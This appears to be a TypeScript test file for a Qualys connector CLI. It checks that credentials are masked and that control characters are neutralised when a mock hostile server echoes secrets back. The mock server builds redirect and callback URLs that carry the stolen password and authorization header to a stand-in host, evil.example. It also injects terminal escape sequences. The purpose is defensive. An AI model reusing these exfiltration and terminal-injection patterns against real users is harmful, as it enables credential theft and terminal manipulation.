import assert from 'node:assert/strict';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { analyze } from '../../server/src/core/analyze';
import { execute } from '../../server/src/send/execute';
import { appendHistory } from '../../server/src/send/history';
import { resolvePlatform, ResolvedPlatform } from '../../server/src/send/platforms';
import { prepareRequest } from '../../server/src/core/prepare';
import { html } from '../unit/clientModules';
import { cli, Hostile, hostileServer } from './hostileServer';
import { tempDir } from '../harness';

const USER = 'tester';
const PASSWORD = 'Pa55-word-4242';
const KEY = 'SECRET-azure-key-77';
const ENV = { QUALYS_USERNAME: USER, QUALYS_PASSWORD: PASSWORD };
/** What must never be seen, in any form: the parts of the secrets no encoding here leaves as they were. */
const LEAKS = [/azure-key-77/, /word-4242/, /ECRET-azure/, /2d77/i, /tester:/, new RegExp(Buffer.from(`${USER}:${PASSWORD}`).toString('base64').slice(0, 12))];

const requests: Record<string, string> = {
  'escaped.json': '{"ServiceRequest": {"data": {"AzureAssetDataConnector": {"name": "n", "authRecord": {"authenticationKey": "\\u0053ECRET-azure-key-77"}}}}}',
  'charref.xml': '<ServiceRequest><data><AzureAssetDataConnector><name>n</name><authRecord><authenticationKey>&#83;ECRET-azure-key-77</authenticationKey></authRecord></AzureAssetDataConnector></data></ServiceRequest>',
  'cdata.xml': '<ServiceRequest><data><AzureAssetDataConnector><name>n</name><authRecord><authenticationKey><![CDATA[SECRET-azure-key-77]]></authenticationKey></authRecord></AzureAssetDataConnector></data></ServiceRequest>',
  'prefixed.xml': '<ServiceRequest xmlns:q="urn:q"><data><AzureAssetDataConnector><name>n</name><authRecord><q:authenticationKey>SECRET-azure-key-77</q:authenticationKey></authRecord></AzureAssetDataConnector></data></ServiceRequest>',
};

/** The answer of a server that echoes what it was sent, in every encoding it can think of. */
function echo(auth: string, body: string): string {
  const escapedKey = '\\u0053\\u0045\\u0043\\u0052\\u0045\\u0054-azure-key-77';
  const lines = [
    `you sent ${body}`,
    `authorization ${auth}`,
    `key ${escapedKey}`,
    `password ${encodeURIComponent(PASSWORD).replace(/-/g, '%2d')}`,
    `at https://evil.example/cb?u=${USER}&p=${encodeURIComponent(PASSWORD)}&k=${encodeURIComponent(KEY)}`,
  ];
  return `{"ServiceResponse": {"responseCode": "INVALID_REQUEST", "responseErrorDetails": {"errorMessage": ${JSON.stringify(lines.join(' | '))}, "errorResolution": "key \\u0053ECRET-azure-key-77"}}}`;
}

describe('a hostile server echoing secrets back, in any encoding', function () {
  this.timeout(30000);
  const dir = tempDir('qc-echo-');
  for (const [name, text] of Object.entries(requests)) writeFileSync(join(dir, `azure-create-${name}`), text);
  let server: Hostile;
  before(async () => {
    server = await hostileServer((req, res, body) => {
      if (req.url?.includes('redirect')) {
        const password = Buffer.from((req.headers.authorization ?? '').split(' ')[1] ?? '', 'base64').toString().split(':')[1] ?? '';
        res.writeHead(302, { Location: `https://evil.example/steal?key=${encodeURIComponent(password)}&auth=${encodeURIComponent(req.headers.authorization ?? '')}` }).end();
        return;
      }
      res.writeHead(200, { 'Content-Type': 'application/json', 'X-Echo': req.headers.authorization ?? '' }).end(echo(req.headers.authorization ?? '', body));
    });
  });
  after(() => server.close());

  for (const name of Object.keys(requests)) {
    it(`masks the key of ${name} and the password in the CLI's output`, async () => {
      const r = await cli(['send', `azure-create-${name}`, '--operation', 'create', '--base-url', server.url, '--force'], ENV, dir);
      assert.equal(r.code, 1, r.stderr);
      assert.match(r.stderr, /INVALID_REQUEST/);
      assert.equal(server.bodies[server.bodies.length - 1], requests[name], 'the request went as written');
      for (const leak of LEAKS) assert.doesNotMatch(r.stdout + r.stderr, leak, `${name}: ${leak}`);
      assert.match(r.stdout + r.stderr, /••••••/);
    });
  }

  it('masks them in the response view and the history too', async () => {
    const text = requests['escaped.json'];
    const prepared = prepareRequest(text, analyze(text, 'azure-create.json'), { operation: 'create' });
    const platform = resolvePlatform('Custom', server.url) as ResolvedPlatform;
    const done = await execute(prepared, { platform, credentials: { username: USER, password: PASSWORD }, timeoutMs: 10000 });
    const page = html.renderResponseHtml(done.response, { line: done.line, platform: platform.label, nonce: 'n0nce' });
    const historyDir = join(dir, 'history');
    await appendHistory(historyDir, { time: new Date().toISOString(), file: 'f', platform: platform.label, operation: 'create', status: done.response.status, responseCode: done.response.responseCode, summary: done.response.summary, problem: done.response.problem, ms: done.response.ms, body: done.response.pretty });
    const kept = readdirSync(historyDir).map((f) => readFileSync(join(historyDir, f), 'utf8')).join('\n');
    for (const shown of [JSON.stringify(done.response), page, kept]) for (const leak of LEAKS) assert.doesNotMatch(shown, leak, String(leak));
    assert.deepEqual(done.secrets.sort(), [KEY, PASSWORD].sort());
  });

  it('masks a key carried by a redirect\'s Location', async () => {
    const password = 'Redir/ect+Key=4242';
    const r = await cli(['send', '--operation', 'get', '--id', '1', '--kind', 'aws', '--base-url', `${server.url}/redirect`], { ...ENV, QUALYS_PASSWORD: password }, dir);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /redirected the request to https:\/\/evil\.example\/steal\?key=••••••&auth=Basic ••••••;/);
    assert.doesNotMatch(r.stderr, /ect(\+|%2B)Key|tester/i);
  });

  it('shows control characters from the answer visibly, never raw, in the CLI\'s output', async () => {
    const nasty = '\u001b]0;pwned\u0007\u001b[2J\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\\u009b31m\u202e';
    const hostile = await hostileServer((_req, res) =>
      res.writeHead(200, { 'Content-Type': 'application/json' }).end(JSON.stringify({ ServiceResponse: { responseCode: `SUCCESS${nasty}`, responseErrorDetails: { errorMessage: nasty } } })),
    );
    try {
      const r = await cli(['send', '--operation', 'get', '--id', '1', '--kind', 'aws', '--base-url', hostile.url], ENV, dir);
      // eslint-disable-next-line no-control-regex -- the point: none may reach the terminal
      assert.doesNotMatch(r.stdout + r.stderr, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
      assert.match(r.stderr, /SUCCESS\\u001b\]0;pwned\\u0007\\u001b\[2J/);
      assert.equal(r.code, 1, 'SUCCESS followed by escape sequences is not SUCCESS');
    } finally {
      await hostile.close();
    }
    const file = join(dir, 'evil\u001b[2J.qualys.json');
    writeFileSync(file, '{"ServiceRequest": {"data": {"AwsAssetDataConnector": {"na\u001b]0;x\u0007me": "n"}}}}');
    const v = await cli(['validate', file], ENV, dir);
    assert.equal(v.code, 1);
    // eslint-disable-next-line no-control-regex -- as above
    assert.doesNotMatch(v.stdout + v.stderr, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    assert.match(v.stdout, /\\u001b\[2J/);
  });
});
